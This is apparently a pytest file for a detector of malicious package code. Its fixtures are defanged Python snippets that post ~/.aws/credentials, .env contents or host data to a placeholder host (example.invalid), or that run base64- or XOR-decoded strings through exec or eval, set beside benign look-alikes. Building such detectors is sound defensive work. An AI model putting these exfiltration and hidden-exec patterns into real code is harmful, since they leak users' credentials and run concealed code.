"""Flows through a module's own functions and through names: decoded data handed to a local function whose
parameter reaches exec/eval or a network call, host data (also a credential file's or ``.env``'s content)
handed to a helper that posts it, and strings built from decoded parts (``out += chr(ord(c) ^ k)``); a
helper given plain data, a settings file posted, or a function whose parameter never reaches a sink, gives
nothing.

Every package is defanged source built in memory (placeholder hosts) and nothing runs."""

from __future__ import annotations

import pytest

from featurepkgs import module_features as features

FLOWS = {
    "inner function posts what its caller decoded": (
        "import base64\nfrom requests import post\nclass Vault:\n    def unlock(self, payload):\n"
        "        def send(raw_url, data):\n            post(raw_url, json={'b': data})\n"
        "        url = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvcA==')\n"
        "        send(url.decode('ascii'), payload)\n",
        "code.decoded_sink",
        8,
    ),
    "helper posts host data": (
        "import platform, requests\ndef report(data):\n"
        "    requests.post('https://example.invalid/c', data=data)\n"
        "def main():\n    report({'host': platform.node()})\n",
        "code.exfil_flow",
        5,
    ),
    "method posts host data through self": (
        "import os, requests\nclass Client:\n    def _send(self, body):\n"
        "        requests.post('https://example.invalid/c', json=body)\n"
        "    def hello(self):\n        self._send({'user': os.getlogin()})\n",
        "code.exfil_flow",
        6,
    ),
    "helper runs decoded code": (
        "import base64\ndef run(code):\n    exec(code)\n"
        "def start():\n    run(base64.b64decode('cHJpbnQoMSk=').decode())\n",
        "code.decode_exec",
        5,
    ),
    "string built by xor in a loop, run through an alias": (
        "b = exec\ndef check():\n    s, k, out = 'abc', '123', ''\n    for i in range(len(s)):\n"
        "        out += chr(ord(s[i]) ^ ord(k[i % len(k)]))\n    b(out)\n",
        "code.decode_exec",
        6,
    ),
    "a credential file posted": (
        "import os, requests\ndef sync():\n    data = open(os.path.expanduser('~/.aws/credentials')).read()\n"
        "    requests.post('https://example.invalid/c', data=data)\n",
        "code.exfil_flow",
        4,
    ),
    "a .env read through with, posted by a helper": (
        "import requests\ndef upload(blob):\n"
        "    requests.post('https://example.invalid/u', data={'e': blob})\n"
        "def run():\n    with open('.env') as fh:\n        env = fh.read()\n    upload(env)\n",
        "code.exfil_flow",
        7,
    ),
    "the own host's address sent": (
        "import socket, requests\ndef ping():\n    ip = socket.gethostbyname(socket.gethostname())\n"
        "    requests.post('https://example.invalid/c', data={'ip': ip})\n",
        "code.exfil_flow",
        4,
    ),
    "decoded value renamed before exec": (
        "import base64\ndef go(s):\n    raw = base64.b64decode(s)\n    text = raw.decode()\n"
        "    eval(compile(text, '<string>', 'exec'))\n",
        "code.decode_exec",
        5,
    ),
}


@pytest.mark.parametrize("name", sorted(FLOWS))
def test_flow_is_seen_with_its_line(name: str) -> None:
    code, feature, line = FLOWS[name]
    f = features(code)
    assert f.values.get(feature, 0) > 0, name
    assert line in {e.line for e in f.evidence_for(feature)}, [e.line for e in f.evidence_for(feature)]


def test_cross_function_evidence_names_the_sink() -> None:
    f = features(FLOWS["helper posts host data"][0])
    message = next(iter(f.evidence_for("code.exfil_flow"))).message
    assert "report(data)" in message and "line 3" in message
    assert "flow:via_param" in f.code_text.split()


PLAIN = {
    "helper given plain data": (
        "import requests\ndef report(data):\n    requests.post('https://example.invalid/c', data=data)\n"
        "def main():\n    report({'status': 'ok'})\n"
    ),
    "decoded data handed to a function that only prints it": (
        "import base64\ndef show(x):\n    print(x)\n"
        "def main():\n    show(base64.b64decode('aGk=').decode())\n"
    ),
    "host data handed to a helper that runs a process with it": (
        "import platform, subprocess\ndef run(arg):\n    subprocess.run(['echo', arg])\n"
        "def main():\n    run(platform.node())\n"
    ),
    "a command line joined and handed to a runner": (
        "import subprocess\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\n"
        "def main(args):\n    line = ' '.join(args)\n    text = line.strip()\n"
        "    run(text)\n    run(' '.join(args))\n"
    ),
    "a settings file posted": (
        "import requests\ndef sync():\n    data = open('settings.json').read()\n"
        "    requests.post('https://example.invalid/c', data=data)\n"
    ),
    "a credential file written, then something else posted": (
        "import os, requests\ndef save(k):\n"
        "    with open(os.path.expanduser('~/.aws/credentials'), 'w') as fh:\n"
        "        fh.write(k)\n    requests.post('https://example.invalid/c', data={'saved': True})\n"
    ),
    "a proxy client resolves its caller's destination and sends to it": (
        "import socket\ndef connect(sock, dest_addr, port):\n    addr = socket.gethostbyname(dest_addr)\n"
        "    sock.sendall(socket.inet_aton(addr) + bytes([port]))\n"
    ),
    "a string built from plain parts": (
        "def go(parts):\n    out = ''\n    for p in parts:\n        out += p.upper()\n    exec(out)\n"
    ),
}


@pytest.mark.parametrize("name", sorted(PLAIN))
def test_plain_flows_give_nothing(name: str) -> None:
    f = features(PLAIN[name])
    for feature in ("code.decoded_sink", "code.exfil_flow", "code.decode_exec"):
        assert f.values.get(feature, 0) == 0, (name, feature)
    assert "flow:via_param" not in f.code_text.split()
